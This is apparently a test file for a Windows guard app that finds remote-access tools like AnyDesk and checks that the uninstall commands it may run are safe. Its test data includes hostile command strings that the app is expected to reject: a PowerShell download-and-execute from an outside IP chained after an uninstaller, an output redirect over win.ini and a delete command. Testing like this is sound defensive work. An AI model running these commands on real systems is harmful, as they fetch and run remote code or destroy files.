// The Windows places on Linux, where the registry itself cannot run (it is read for real under Wine in
// tests/windows/installedCheck.test.ts): an uninstall command a caller planted is never run by the app; a key Windows
// refuses is named once though read in both views; task files and Startup shortcuts in the formats Windows writes.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadCatalog } from '../../../../electron/guardian/catalog';
import { checkInstalled } from '../../../../electron/guardian/check/installedCheck';
import { scheduledTasks, startupFolders, uninstallEntries, uninstallerLooksRight } from '../../../../electron/guardian/check/windowsPlaces';
import { RegistryError, type RegistryApi, type RegistryKey } from '../../../../electron/guardian/win32/registryApi';

const catalog = loadCatalog();
const anydesk = catalog.byId('anydesk')!;
const screenconnect = catalog.byId('screenconnect')!;
const env = { ProgramFiles: 'C:\\Program Files', 'ProgramFiles(x86)': 'C:\\Program Files (x86)', SystemRoot: 'C:\\Windows' };
const UNINSTALL = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall';

describe('which uninstall commands the app may run', () => {
  it.each([
    ['AnyDesk\'s own, in its folder', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall', anydesk, true],
    ['Windows Installer with a product code', 'MsiExec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B}', anydesk, true],
    ['Windows Installer from System32, quietly', 'C:\\Windows\\System32\\msiexec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B} /qn', anydesk, true],
    ['an Inno Setup uninstaller in a ScreenConnect client folder', '"C:\\Program Files (x86)\\ScreenConnect Client (1a2b3c4d)\\unins000.exe"', screenconnect, true],
    ['Windows Installer installing a package', 'msiexec /i C:\\Users\\Public\\fix.msi /qn', anydesk, false],
    ['a program of the caller\'s named msiexec', '"C:\\Users\\Public\\msiexec.exe" /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B}', anydesk, false],
    ['Windows Installer with more than a product code', 'MsiExec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B} TRANSFORMS=C:\\Users\\Public\\x.mst', anydesk, false],
    ['a shell command', 'cmd.exe /c del /q "C:\\Program Files\\Pause Guard\\*"', anydesk, false],
    ['the right name in the wrong folder', '"C:\\Users\\Public\\AnyDesk.exe" --uninstall', anydesk, false],
    ['the right name in a folder of the person\'s own, however the entry names it', '"C:\\Users\\Mum\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe" --uninstall', anydesk, false],
    ['AnyDesk\'s own with a second command chained after it', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall & powershell -c "iwr http://198.51.100.9/x | iex"', anydesk, false],
    ['AnyDesk\'s own with its output sent over a file', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall > C:\\Windows\\win.ini', anydesk, false],
    ['AnyDesk\'s own with a variable the command processor would expand', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" %COMSPEC%', anydesk, false],
    ['a script in the install folder', '"C:\\Program Files (x86)\\AnyDesk\\fix.bat"', anydesk, false],
  ])('%s', (_name, command, tool, expected) => {
    expect(uninstallerLooksRight(command, tool, env)).toBe(expected);
  });
});

/** A registry of plain keys, HKCU one key in both views as on Windows; `refused` keys answer access denied. */
function fakeRegistry(keys: Record<string, Record<string, string | number>>, refused: string[] = []): RegistryApi {
  return {
    readKey(hive, key, view) {
      const name = hive === 'HKLM' && view === 32 ? key.replace(/^SOFTWARE\\/, 'SOFTWARE\\WOW6432Node\\') : key;
      const full = `${hive}\\${name}`;
      if (refused.includes(full)) throw new RegistryError(5);
      const prefix = `${full}\\`;
      const subkeys = Object.keys(keys).filter((k) => k.startsWith(prefix) && !k.slice(prefix.length).includes('\\')).map((k) => k.slice(prefix.length));
      const values = keys[full];
      if (!values && subkeys.length === 0) return null;
      const entries = Object.entries(values ?? {});
      return {
        subkeys, values: new Map(entries.map(([k, v]) => [k.toLowerCase(), v])), names: new Map(entries.map(([k]) => [k.toLowerCase(), k])), lastWritten: null,
      } satisfies RegistryKey;
    },
    writeBinary() {
      throw new Error('not written in these tests');
    },
  };
}

/** The check over the Uninstall entries alone, as checkInstalled groups them (one place once, one problem once). */
const checkedWith = (registry: RegistryApi) => checkInstalled({
  catalog, platform: 'win32', root: '/', home: '/', env, places: () => Promise.resolve(uninstallEntries(catalog, { registry, env })),
  trustedHelpers: [], helperName: 'Dave', running: () => Promise.resolve(new Set<string>()),
});

describe('Uninstall entries', () => {
  it('an entry a caller planted in HKCU with a command of their own gets words for the family, never a button that runs it', async () => {
    const registry = fakeRegistry({
      [`HKCU\\${UNINSTALL}\\AnyDesk`]: { DisplayName: 'AnyDesk', UninstallString: 'powershell -c "iwr http://198.51.100.9/x | iex"' },
    });
    const { report } = await checkedWith(registry);
    expect(report.programs).toHaveLength(1);
    expect(report.programs[0]?.steps.map((s) => [s.kind, s.command])).toEqual([['tell-helper', null]]);
    expect(report.programs[0]?.steps[0]?.words).toContain('its uninstall command looks unusual: powershell');
  });

  it('a key Windows refuses is named once, though both registry views of HKCU are read', async () => {
    const registry = fakeRegistry({}, [`HKCU\\${UNINSTALL}`]);
    const { report } = await checkedWith(registry);
    const where = `HKEY_CURRENT_USER\\${UNINSTALL}`;
    expect(report.problems).toEqual([{ where, message: `${where} could not be checked: Pause Guard is not allowed to read it.` }]);
  });
});

describe('task files and Startup shortcuts', () => {
  let top: string;
  afterEach(() => fs.rmSync(top, { recursive: true, force: true }));

  it('reads a UTF-16 task file with its trigger, and a shortcut by the program it points to', async () => {
    top = fs.mkdtempSync(path.join(os.tmpdir(), 'pg-check-windows-'));
    const windowsEnv = { SystemRoot: path.join(top, 'Windows'), APPDATA: path.join(top, 'AppData'), ProgramData: path.join(top, 'ProgramData') };
    const tasks = path.join(windowsEnv.SystemRoot, 'System32/Tasks/Support');
    fs.mkdirSync(tasks, { recursive: true });
    const xml = '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n    <Date>2026-11-30T10:20:00Z</Date>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n  </Triggers>\r\n  <Settings>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%ProgramFiles%\\RustDesk\\rustdesk.exe</Command>\r\n      <Arguments>--server</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>\r\n';
    fs.writeFileSync(path.join(tasks, 'Remote'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
    const tasksScan = await scheduledTasks(catalog, { registry: fakeRegistry({}), env: windowsEnv });
    expect(tasksScan.found.map((f) => [f.toolId, f.place.what, f.place.startsByItself, f.place.installedAt])).toEqual([
      ['rustdesk', 'the scheduled task "\\Support\\Remote"', 'starts by itself from a scheduled task (when the computer starts)', '2026-11-30T10:20:00.000Z'],
    ]);
    expect(tasksScan.found[0]?.removal).toMatchObject({ kind: 'tell-helper', detail: expect.stringContaining('schtasks /Change /TN "\\Support\\Remote" /Disable') });

    const startup = path.join(windowsEnv.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup');
    fs.mkdirSync(startup, { recursive: true });
    // A shell link's header, then the target's path as LinkInfo keeps it (ANSI), and its working folder in UTF-16.
    const header = Buffer.alloc(76);
    header.writeUInt32LE(0x4c, 0);
    fs.writeFileSync(path.join(startup, 'Printer helper.lnk'), Buffer.concat([header, Buffer.from('C:\\Program Files (x86)\\UltraViewer\\UltraViewer_Desktop.exe\0', 'latin1'), Buffer.from('C:\\Program Files (x86)\\UltraViewer\0', 'utf16le')]));
    fs.writeFileSync(path.join(startup, 'desktop.ini'), '[.ShellClassInfo]\r\n');
    const startupScan = await startupFolders(catalog, { registry: fakeRegistry({}), env: windowsEnv });
    expect(startupScan.found.map((f) => [f.toolId, f.place.what])).toEqual([['ultraviewer', 'the startup shortcut Printer helper.lnk']]);
    expect(startupScan.problems).toEqual([]);
  });
});
